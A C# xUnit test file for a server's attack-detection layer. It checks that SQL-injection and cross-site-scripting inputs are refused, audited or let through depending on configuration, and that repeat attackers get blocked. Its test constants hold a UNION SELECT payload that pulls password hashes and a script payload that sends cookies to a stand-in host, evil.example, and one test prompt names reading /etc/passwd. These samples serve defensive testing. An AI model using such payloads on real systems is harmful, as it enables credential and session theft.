using System.Net;
using System.Text;
using AICodeManager.Server.FrontDoor.Access;
using AICodeManager.Server.FrontDoor.Attacks.Detection;
using AICodeManager.Server.FrontDoor.Attacks.Scanning;
using AICodeManager.Tests.Fixtures;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;

namespace AICodeManager.Tests.FrontDoor.Attacks;

/// <summary>Attacks against the real server: what is refused, what is only told of, and what passes untouched.</summary>
public sealed class AttackLayersTests
{
    private const string Injection = "x' UNION SELECT email, password_hash FROM users --";
    private const string Script = "<script>fetch('//evil.example/?'+document.cookie)</script>";
    private static readonly CancellationToken Cancel = TestContext.Current.CancellationToken;

    [Fact]
    public async Task Refuses_an_attack_in_the_query_before_anybody_signs_in()
    {
        await using var server = await LiveServer.StartAsync();
        using var http = new HttpClient { BaseAddress = server.Address };
        var answer = await http.GetAsync($"/api/v1/workspaces?after={Uri.EscapeDataString(Injection)}", Cancel);
        Assert.Equal(HttpStatusCode.Forbidden, answer.StatusCode);
        var problem = await answer.Content.ReadAsStringAsync(Cancel);
        Assert.Contains("attack_detected", problem);
        Assert.DoesNotContain("sql", problem);
    }

    [Fact]
    public async Task Refuses_an_attack_on_a_path_that_no_route_takes()
    {
        await using var server = await LiveServer.StartAsync();
        using var http = new HttpClient { BaseAddress = server.Address };
        Assert.Equal(HttpStatusCode.Forbidden, (await http.GetAsync($"/shop/{Uri.EscapeDataString(Injection)}", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync("/shop/shoes", Cancel)).StatusCode);
    }

    [Fact]
    public async Task Refuses_an_attack_in_a_name_and_serves_the_next_request_on_the_same_connection()
    {
        await using var server = await LiveServer.StartAsync();
        var user = await server.SignUpAsync();
        Assert.Equal("attack_detected", (await user.TryAsync(HttpMethod.Post, "workspaces", new { name = Script })).Code);
        Assert.Equal(201, (await user.TryAsync(HttpMethod.Post, "workspaces", new { name = "Rock 'n' Roll <3 & more; 100% 진짜" })).Status);
    }

    [Fact]
    public async Task Refuses_an_attack_in_the_name_beside_an_upload()
    {
        await using var server = await LiveServer.StartAsync();
        var user = await server.SignUpAsync();
        var workspace = (await user.PostAsync("workspaces", new { name = "w" })).GetProperty("id").GetString();
        var form = new MultipartFormDataContent { { new StringContent("x\">" + Script), "name" }, { new ByteArrayContent([1]), "archive" } };
        Assert.Equal("attack_detected", (await user.TryAsync(HttpMethod.Post, $"workspaces/{workspace}/projects", form)).Code);
    }

    [Fact]
    public async Task Serves_prompts_full_of_attacks()
    {
        await using var server = await LiveServer.StartAsync();
        var user = await server.SignUpAsync();
        var answer = await user.TryAsync(HttpMethod.Post, $"projects/{Guid.NewGuid()}/tasks", new { prompt = $"Why is {Injection} and {Script}; cat /etc/passwd dangerous?" });
        Assert.Equal("not_found", answer.Code);
    }

    [Fact]
    public async Task A_prompt_sent_to_the_sign_in_is_text_like_any_other()
    {
        await using var server = await LiveServer.StartAsync();
        var anonymous = server.Anonymous();
        var answer = await anonymous.TryAsync(HttpMethod.Post, "auth/login", new { email = "a@example.com", password = "x", prompt = Injection });
        Assert.Equal("attack_detected", answer.Code);
    }

    [Fact]
    public async Task A_password_may_be_anything()
    {
        await using var server = await LiveServer.StartAsync();
        var anonymous = server.Anonymous();
        var made = await anonymous.TryAsync(HttpMethod.Post, "auth/register", new { email = "odd@example.com", password = Injection });
        Assert.Equal(201, made.Status);
        Assert.Equal(200, (await anonymous.TryAsync(HttpMethod.Post, "auth/login", new { email = "odd@example.com", password = Injection })).Status);
    }

    [Fact]
    public async Task The_endpoint_gets_the_whole_body_after_it_was_looked_at()
    {
        string? received = null;
        await using var server = await LiveServer.StartAsync(routes: routes => routes.MapPost("/echo", async (HttpContext context) =>
        {
            using var reader = new StreamReader(context.Request.Body);
            received = await reader.ReadToEndAsync(context.RequestAborted);
        }).OpenToAll());
        using var http = new HttpClient { BaseAddress = server.Address };
        var sent = $$"""{"text":"{{new string('가', 300_000)}}"}""";
        using var chunked = new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(sent))) { Headers = { { "Content-Type", "application/json" } } };
        using var request = new HttpRequestMessage(HttpMethod.Post, "/echo") { Content = chunked, Headers = { TransferEncodingChunked = true } };
        Assert.Equal(HttpStatusCode.OK, (await http.SendAsync(request, Cancel)).StatusCode);
        Assert.Equal(sent, received);
    }

    [Fact]
    public async Task Detect_mode_serves_and_tells_the_audit()
    {
        await using var server = await LiveServer.StartAsync(config: "monitoring:\n  attack_detection:\n    mode: \"detect\"\n");
        using var http = new HttpClient { BaseAddress = server.Address };
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Injection)}", Cancel)).StatusCode);
        await Poll.UntilAsync(async () => (await EventsAsync(server)).Count > 0);
        var rows = await EventsAsync(server);
        Assert.Contains("detect_mode", rows[0].Reason);
        Assert.Contains("query.q", rows[0].Details);
    }

    [Fact]
    public async Task Off_looks_at_nothing()
    {
        await using var server = await LiveServer.StartAsync(config: "monitoring:\n  attack_detection:\n    enabled: false\n");
        using var http = new HttpClient { BaseAddress = server.Address };
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Injection)}", Cancel)).StatusCode);
    }

    [Fact]
    public async Task One_class_can_be_off_while_the_others_block()
    {
        await using var server = await LiveServer.StartAsync(config: "monitoring:\n  attack_detection:\n    sql_injection:\n      mode: \"off\"\n");
        using var http = new HttpClient { BaseAddress = server.Address };
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Injection)}", Cancel)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Script)}", Cancel)).StatusCode);
    }

    [Fact]
    public async Task Who_goes_on_attacking_is_blocked()
    {
        await using var server = await LiveServer.StartAsync(
            change: Visitor.Addresses, config: "monitoring:\n  attack_detection:\n    offenders:\n      attempts: 3\n");
        using var attacker = new Visitor(server, "198.51.100.66");
        using var neighbour = new Visitor(server, "198.51.100.67");
        for (var i = 0; i < 3; i++)
            Assert.Equal(403, (int)(await attacker.SendAsync(HttpMethod.Get, $"/healthz?q={Uri.EscapeDataString(Injection)}")).Status);
        await Poll.UntilAsync(async () => (await attacker.SendAsync(HttpMethod.Get, "/healthz")).Code == "blocked");
        Assert.Equal(200, (int)(await neighbour.SendAsync(HttpMethod.Get, "/healthz")).Status);
    }

    [Fact]
    public async Task A_page_full_of_pictures_does_not_shut_out_its_visitors()
    {
        await using var server = await LiveServer.StartAsync(config: "monitoring:\n  attack_detection:\n    offenders:\n      attempts: 3\n");
        using var http = new HttpClient { BaseAddress = server.Address };
        for (var i = 0; i < 20; i++)
        {
            using var picture = new HttpRequestMessage(HttpMethod.Get, $"/healthz?q={Uri.EscapeDataString(Script)}") { Headers = { { "Sec-Fetch-Site", "cross-site" } } };
            Assert.Contains("attack_detected", await (await http.SendAsync(picture, Cancel)).Content.ReadAsStringAsync(Cancel));
        }

        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync("/healthz", Cancel)).StatusCode);
    }

    [Fact]
    public async Task A_flood_of_one_attack_is_one_event_a_minute()
    {
        await using var server = await LiveServer.StartAsync(config: "monitoring:\n  attack_detection:\n    offenders:\n      attempts: 1000\n");
        using var http = new HttpClient { BaseAddress = server.Address };
        for (var i = 0; i < 20; i++)
            await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Injection)}", Cancel);
        await http.GetAsync($"/healthz?q={Uri.EscapeDataString(Script)}", Cancel);
        // The queue keeps its order: what came last tells that all is written.
        await Poll.UntilAsync(async () => (await EventsAsync(server)).Any(r => r.Details.Contains("\"xss\"")));
        var rows = await EventsAsync(server);
        Assert.Equal(1, rows.Count(r => r.Details.Contains("\"sql_injection\"")));
    }

    [Theory]
    [InlineData("POST /api/v1/auth/login", "password", FieldKind.Secret)]
    [InlineData("POST /api/v1/auth/register", "password", FieldKind.Secret)]
    [InlineData("POST /api/v1/auth/refresh", "refresh_token", FieldKind.Secret)]
    [InlineData("POST /api/v1/auth/password", "current_password", FieldKind.Secret)]
    [InlineData("POST /api/v1/auth/step-up", "code", FieldKind.Secret)]
    [InlineData("POST /api/v1/projects/{id:guid}/tasks", "prompt", FieldKind.Code)]
    [InlineData("POST /api/v1/tasks/{id:guid}/messages", "text", FieldKind.Code)]
    [InlineData("POST /api/v1/tasks/{id:guid}/approvals/{requestId}", "message", FieldKind.Code)]
    [InlineData("POST /api/v1/projects/{id:guid}/commit", "message", FieldKind.Code)]
    [InlineData("PUT /api/v1/projects/{id:guid}/files/{**path}", "*", FieldKind.Code)]
    [InlineData("POST /api/v1/admin/blocks", "comment", FieldKind.Code)]
    [InlineData("PUT /api/v1/admin/blocks/{id:guid}", "comment", FieldKind.Code)]
    public async Task Endpoints_say_which_fields_carry_code_and_secrets(string route, string place, FieldKind kind)
    {
        await using var server = await LiveServer.StartAsync();
        var endpoint = Assert.Single(
            server.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>(),
            e => $"{e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods[0]} /{e.RoutePattern.RawText!.Trim('/')}" == route);
        Assert.Contains(new FieldPolicy(place, kind), endpoint.Metadata.GetOrderedMetadata<FieldPolicy>());
    }

    private static async Task<IReadOnlyList<(string Reason, string Details)>> EventsAsync(LiveServer server) =>
        [.. (await server.Database.ReadAsync(r => r.QueryAsync<Row>(
            "SELECT reason, details FROM audit_events WHERE name = 'attack_detected' ORDER BY id"), Cancel)).Select(r => (r.Reason ?? "", r.Details ?? ""))];

    private sealed record Row
    {
        public string? Reason { get; init; }
        public string? Details { get; init; }
    }
}
